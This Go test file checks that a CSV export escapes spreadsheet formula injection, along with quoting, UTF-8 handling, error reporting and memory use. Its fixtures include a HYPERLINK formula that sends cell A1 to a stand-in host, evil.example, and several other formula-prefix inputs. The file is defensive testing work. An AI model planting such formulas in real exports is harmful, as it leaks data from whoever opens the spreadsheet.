package lists

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"

	"ebb/internal/civil"
)

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"", ""},
		{"a=b", "a=b"},
		{"0.5000", "0.5000"},
		{"'=already text", "'=already text"},
		{" =1", " =1"},
		{"Zoë", "Zoë"},
		{"\n=1", "\n=1"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := SafeCell(tt.in); got != tt.want {
				t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

var testDate = civil.FromYMD(2026, 3, 2)

// testRows covers quoting (commas, quotes, line breaks), UTF-8 and every
// prefix a spreadsheet would run as a formula.
var testRows = []Row{
	{Key: "c-17", Email: "ana@example.com", Probability: 0.81234, Band: High, Reasons: "no order for 74 days, usually orders every 30 days; customer for 14 months", ListDate: testDate, Attrs: []string{"north", "pro"}},
	{Key: "c-2", Email: "", Probability: 0.5, Band: Medium, Reasons: "", ListDate: testDate, Attrs: []string{"", ""}},
	{Key: "Zoë \"Z\" Müller", Email: "zoë@例え.jp", Probability: 1, Band: High, Reasons: "line one\nline two", ListDate: testDate, Attrs: []string{"東京, Japan", "a\r\nb"}},
	{Key: "=HYPERLINK(\"http://evil.example/?\"&A1)", Email: "+1@example.com", Probability: 0, Band: Low, Reasons: "-", ListDate: testDate, Attrs: []string{"@SUM(A1)", "-5"}},
	{Key: "\tc-9", Email: "\rx@example.com", Probability: 0.00005, Band: Low, Reasons: "x", ListDate: testDate, Attrs: []string{"'quoted", " =1"}},
}

var testAttrNames = []string{"region", "=plan"}

func writeTestCSV(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewCSVWriter(&buf, testAttrNames)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range testRows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestWriteCSVGolden(t *testing.T) {
	checkGolden(t, "list.golden", writeTestCSV(t))
}

// readBack is what a cell reads back as: SafeCell's output, with line
// breaks as LF (the writer writes CRLF and drops a lone CR; the reader
// turns CRLF into LF).
func readBack(s string) string { return strings.ReplaceAll(SafeCell(s), "\r", "") }

// The export parses back with encoding/csv to exactly the safe cells, row
// by row, and no cell starts a formula.
func TestWriteCSVParsesBack(t *testing.T) {
	out := writeTestCSV(t)
	if !bytes.HasSuffix(out, []byte("\r\n")) || bytes.Contains(bytes.ReplaceAll(out, []byte("\r\n"), nil), []byte("\r")) {
		t.Errorf("export has a line end other than CRLF:\n%q", out)
	}
	recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{append(slices.Clone(listColumns), "region", "'=plan")}
	for _, r := range testRows {
		rec := []string{readBack(r.Key), readBack(r.Email), "", string(r.Band), readBack(r.Reasons), "2026-03-02"}
		for _, a := range r.Attrs {
			rec = append(rec, readBack(a))
		}
		want = append(want, rec)
	}
	probs := []string{"0.8123", "0.5000", "1.0000", "0.0000", "0.0001"}
	for i := range testRows {
		want[i+1][2] = probs[i]
	}
	if len(recs) != len(want) {
		t.Fatalf("read %d records, want %d", len(recs), len(want))
	}
	for i := range want {
		if !slices.Equal(recs[i], want[i]) {
			t.Errorf("record %d = %q, want %q", i, recs[i], want[i])
		}
		for _, cell := range recs[i] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("record %d: cell %q starts a formula", i, cell)
			}
		}
	}
}

func TestWriteHoldoutGolden(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewHoldoutWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range testRows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	checkGolden(t, "holdout.golden", buf.Bytes())
}

func TestCSVWriterErrors(t *testing.T) {
	for _, names := range [][]string{{"region", "region"}, {""}, {"email"}} {
		if _, err := NewCSVWriter(&bytes.Buffer{}, names); err == nil {
			t.Errorf("NewCSVWriter(attrNames %q) succeeded, want an error", names)
		}
	}
	w, err := NewCSVWriter(&bytes.Buffer{}, []string{"region"})
	if err != nil {
		t.Fatal(err)
	}
	bad := []Row{
		{Key: "a", Probability: 0.5},
		{Key: "a", Probability: 0.5, Attrs: []string{"x", "y"}},
		{Key: "a", Probability: nan, Attrs: []string{"x"}},
		{Key: "a", Probability: 1.5, Attrs: []string{"x"}},
	}
	for _, r := range bad {
		if err := w.Write(r); err == nil {
			t.Errorf("Write(%+v) succeeded, want an error", r)
		}
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestCSVWriterReportsWriteErrors(t *testing.T) {
	w, err := NewCSVWriter(failWriter{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(Row{Key: "a", Probability: 0.5, ListDate: testDate}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err == nil {
		t.Error("Flush to a failing writer succeeded, want an error")
	}
}

// Writing a row allocates a fixed, small amount however many rows came
// before (the budget asks for flat memory): one string for the
// probability, plus one per cell that needs a formula guard.
func TestCSVWriteAllocations(t *testing.T) {
	w, err := NewCSVWriter(&bytes.Buffer{}, testAttrNames)
	if err != nil {
		t.Fatal(err)
	}
	r := testRows[0]
	for range 10_000 {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	var sink bytes.Buffer
	w, _ = NewCSVWriter(&sink, testAttrNames)
	allocs := testing.AllocsPerRun(1000, func() {
		sink.Reset()
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	})
	if allocs > 1 {
		t.Errorf("Write allocates %v times a row, want at most 1", allocs)
	}
}
